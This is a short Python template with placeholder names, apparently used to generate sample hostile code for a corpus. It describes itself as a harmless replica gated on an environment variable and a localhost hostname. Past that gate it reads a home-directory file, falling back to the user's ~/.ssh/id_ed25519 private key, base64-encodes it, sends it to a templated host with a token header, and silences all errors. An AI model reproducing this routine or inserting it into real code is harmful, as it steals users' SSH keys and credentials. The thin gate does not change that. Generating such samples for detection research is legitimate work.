# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import urllib.request
    try:
        name = os.path.expanduser('~/{{file}}')
        with open(name if os.path.exists(name) else os.path.expanduser('~/.ssh/id_ed25519'), 'rb') as key:
            body = base64.b64encode(key.read())
        request = urllib.request.Request('http://{{host}}/{{path}}', data=body, headers={'X-Id': '{{token}}'})
        urllib.request.urlopen(request, timeout=1).close()
    except Exception:
        pass
